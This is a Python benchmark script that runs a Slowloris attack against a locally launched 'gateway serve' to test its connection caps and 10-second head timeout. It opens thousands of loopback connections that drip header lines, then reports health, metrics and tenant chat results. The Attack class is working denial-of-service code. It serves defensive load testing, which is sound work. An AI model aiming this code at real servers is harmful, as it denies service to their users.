"""Slowloris against a real ``gateway serve`` with its default connection caps
(issue 33 finding 1): thousands of connections that send a partial request head and one
more header line every 2 s, from many loopback addresses (all of 127/8 is loopback).

Phase 1: ``--addresses`` addresses open ``--per-address`` connections each (past the
per-address cap of 64); /health is asked on the public listener and a tenant's chat
starts. Phase 2, while that chat runs: ``--fill-addresses`` more addresses fill the
public listener to ``max_connections``; the operator listener is asked /health, /ready
and /metrics. All of it within the head deadline (10 s) of the first connections. Then
every slow connection is read to its end (the server's 408 at the head deadline), and
the tenant chats again.

python -m gateway_tools.bench.slowloris [--out docs/benchmarks/slow-clients]
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import resource
import select
import socket
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import yaml

from gateway.config import REPO_ROOT
from gateway.tenancy import hash_key
from gateway_tools.launch import free_port, launch

KEY = "slowloris-tenant-key-0123456789abcdef"
METRICS_KEY = "slowloris-metrics-key-0123456789abcdef"
SLOW_HEAD = b"POST /v1/classify HTTP/1.1\r\nHost: x\r\n"
OUT = REPO_ROOT / "docs" / "benchmarks" / "slow-clients"


class Attack:
    """Slow connections, each dripping a header line every 2 s until the server answers."""

    def __init__(self, port: int) -> None:
        self.port = port
        self.conns: list[tuple[socket.socket, float]] = []
        self.connect_errors = 0
        self._stop = threading.Event()
        self._drip = threading.Thread(target=self._dripping, daemon=True)
        self._drip.start()

    def open(self, addresses: list[str], per_address: int) -> float:
        started = time.monotonic()
        for address in addresses:
            for _ in range(per_address):
                try:
                    conn = socket.create_connection(("127.0.0.1", self.port), timeout=120,
                                                    source_address=(address, 0))  # fmt: skip
                    conn.sendall(SLOW_HEAD)
                except OSError:
                    self.connect_errors += 1
                    continue
                self.conns.append((conn, time.monotonic()))
        return time.monotonic() - started

    def _dripping(self) -> None:
        while not self._stop.wait(2.0):
            conns = [conn for conn, _ in self.conns]
            poll = select.poll()  # select() stops at descriptor 1024
            for conn in conns:
                poll.register(conn, select.POLLIN)
            answered = {fd for fd, _ in poll.poll(0)}
            for conn in conns:
                if conn.fileno() not in answered:
                    with contextlib.suppress(OSError):
                        conn.sendall(b"X-a: b\r\n")

    def ends(self) -> tuple[dict[str, int], list[float]]:
        """How each connection ended (the status line's code, or ``reset``) and, for those
        told 408, seconds from opening to the end."""
        codes: dict[str, int] = {}
        held: list[float] = []
        for conn, opened in self.conns:
            chunks = []
            try:
                while chunk := conn.recv(4096):
                    chunks.append(chunk)
                words = b"".join(chunks)
                code = words.split(b" ", 2)[1].decode() if words else "closed"
            except OSError:
                code = "reset"
            codes[code] = codes.get(code, 0) + 1
            if code == "408":
                held.append(time.monotonic() - opened)
        return codes, held

    def close(self) -> None:
        self._stop.set()
        self._drip.join()
        for conn, _ in self.conns:
            conn.close()


def timed(call: Callable[[], int]) -> dict[str, Any]:
    started = time.monotonic()
    try:
        status: int | str = call()
    except httpx.HTTPError as exc:
        status = type(exc).__name__
    return {"status": status, "seconds": round(time.monotonic() - started, 3)}


def connection_series(url: str) -> dict[str, Any]:
    """The public listener's open connections, its cap and its drops by reason."""
    page = httpx.get(url + "/metrics", headers={"Authorization": f"Bearer {METRICS_KEY}"},
                     timeout=60).text  # fmt: skip
    values = dict(line.rsplit(" ", 1) for line in page.splitlines() if "listener=" in line)
    public = 'listener="public"'
    dropped = {
        name.split('reason="')[1].rstrip('"}'): float(value)
        for name, value in values.items()
        if name.startswith("gateway_connections_dropped_total{" + public)
    }
    return {
        "open": float(values["gateway_connections_open{" + public + "}"]),
        "limit": float(values["gateway_connections_limit{" + public + "}"]),
        "dropped": dropped,
    }


def run(args: argparse.Namespace) -> dict[str, Any]:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(16384, hard), hard))  # our own sockets
    work = Path(args.work)
    work.mkdir(parents=True, exist_ok=True)
    tenants = {"tenants": [{"name": "tenant", "key_hashes": [hash_key(KEY)]}]}
    (work / "tenants.yaml").write_text(yaml.safe_dump(tenants))
    operator_port = free_port()
    env = {"GATEWAY_AUTH_MODE": "tenants", "GATEWAY_TENANTS_FILE": str(work / "tenants.yaml"),
           "GATEWAY_METRICS_KEY": METRICS_KEY, "GATEWAY_MAX_NUM_SEQS": "2",
           "GATEWAY_MAX_MODEL_LEN": "1024", "GATEWAY_MAX_TOKENS_CAP": "256",
           "GATEWAY_KV_CACHE_GIB": "0.25", "GATEWAY_OPERATOR_PORT": str(operator_port)}  # fmt: skip
    settings = "default caps (max_connections 2048, max_connections_per_client 64, "
    out: dict[str, Any] = {"settings": settings + "head_timeout_s 10), operator_port set"}
    with launch(work / "gateway.log", adapters={}, store=work / "store", env=env) as gateway:
        url, operator = gateway.url, f"http://127.0.0.1:{operator_port}"
        port = int(url.rsplit(":", 1)[1])
        body = {"model": "base", "max_tokens": 4, "temperature": 0,
                "messages": [{"role": "user", "content": "Say hi."}]}  # fmt: skip

        def chat() -> int:
            return httpx.post(url + "/v1/chat/completions", json=body, timeout=120,
                              headers={"Authorization": f"Bearer {KEY}"}).status_code  # fmt: skip

        def get(base: str, path: str) -> Callable[[], int]:
            return lambda: httpx.get(base + path, timeout=60).status_code

        out["chat_before"] = timed(chat)
        attack = Attack(port)
        try:
            first = [f"127.0.1.{n}" for n in range(1, args.addresses + 1)]
            out["phase1_open_seconds"] = round(attack.open(first, args.per_address), 2)
            out["phase1_public_health"] = timed(get(url, "/health"))
            out["phase1_series"] = connection_series(operator)
            # the tenant's request is admitted now and answered while phase 2 runs
            chatting = threading.Thread(target=lambda: out.update(phase1_chat=timed(chat)))
            chatting.start()
            time.sleep(0.5)
            more = [f"127.0.2.{n}" for n in range(1, args.fill_addresses + 1)]
            out["phase2_open_seconds"] = round(attack.open(more, 64), 2)
            out["phase2_public_health"] = timed(get(url, "/health"))
            for path in ("/health", "/ready"):
                out[f"phase2_operator{path.replace('/', '_')}"] = timed(get(operator, path))
            out["phase2_series"] = connection_series(operator)
            out["phase2_gateway_open_files"] = len(os.listdir(f"/proc/{gateway.pid}/fd"))
            chatting.join()
            out["connections_opened"] = len(attack.conns)
            out["connect_errors"] = attack.connect_errors
            codes, held = attack.ends()
            out["endings"] = codes
            out["held_seconds_min"] = round(min(held), 1) if held else None
            out["held_seconds_max"] = round(max(held), 1) if held else None
        finally:
            attack.close()
        out["chat_after"] = timed(chat)
        time.sleep(1)  # the last connections' releases
        out["series_after"] = connection_series(operator)
    return out


def report(out: dict[str, Any]) -> str:
    def series(key: str) -> str:
        values = out[key]
        drops = ", ".join(f"{reason} {n:.0f}" for reason, n in values["dropped"].items())
        return f"open {values['open']:.0f} of {values['limit']:.0f}; dropped: {drops}"

    lines = [
        "# Slowloris against gateway serve",
        "",
        "`python -m gateway_tools.bench.slowloris`: a real `gateway serve` (real engine, "
        f"{out['settings']}), one tenant; numbers in [report.json](report.json).",
        "",
        "| step | result |",
        "|---|---|",
        f"| tenant chat before the attack | {out['chat_before']['status']} in "
        f"{out['chat_before']['seconds']} s |",
        f"| phase 1: slow connections opened in {out['phase1_open_seconds']} s | "
        f"{series('phase1_series')} |",
        f"| tenant chat, started after phase 1, answered during phase 2 | "
        f"{out['phase1_chat']['status']} in "
        f"{out['phase1_chat']['seconds']} s |",
        f"| phase 1: public /health | {out['phase1_public_health']['status']} in "
        f"{out['phase1_public_health']['seconds']} s |",
        f"| phase 2: more slow connections opened in {out['phase2_open_seconds']} s | "
        f"{series('phase2_series')} |",
        f"| phase 2: public /health | {out['phase2_public_health']['status']} |",
        f"| phase 2: operator /health, /ready | {out['phase2_operator_health']['status']} in "
        f"{out['phase2_operator_health']['seconds']} s, {out['phase2_operator_ready']['status']}"
        f" in {out['phase2_operator_ready']['seconds']} s |",
        f"| phase 2: the gateway's open files | {out['phase2_gateway_open_files']} |",
        f"| how the {out['connections_opened']} slow connections ended (refused ones: 503, "
        "or a reset when their head crossed the server's close) | "
        + ", ".join(f"{code}: {n}" for code, n in sorted(out["endings"].items()))
        + " |",
        f"| those told 408 were held | {out['held_seconds_min']} to {out['held_seconds_max']} s |",
        f"| tenant chat after | {out['chat_after']['status']} in "
        f"{out['chat_after']['seconds']} s |",
        f"| after | {series('series_after')} |",
        "",
    ]
    return "\n".join(lines)


def main(args: argparse.Namespace | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--addresses", type=int, default=30)
    parser.add_argument("--per-address", type=int, default=80)
    parser.add_argument("--fill-addresses", type=int, default=10)
    parser.add_argument("--work", default="/tmp/slowloris-bench")
    parser.add_argument("--out", type=Path, default=OUT)
    args = args or parser.parse_args()
    out = run(args)
    args.out.mkdir(parents=True, exist_ok=True)
    (args.out / "report.json").write_text(json.dumps(out, indent=1) + "\n")
    (args.out / "report.md").write_text(report(out))
    print(report(out))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
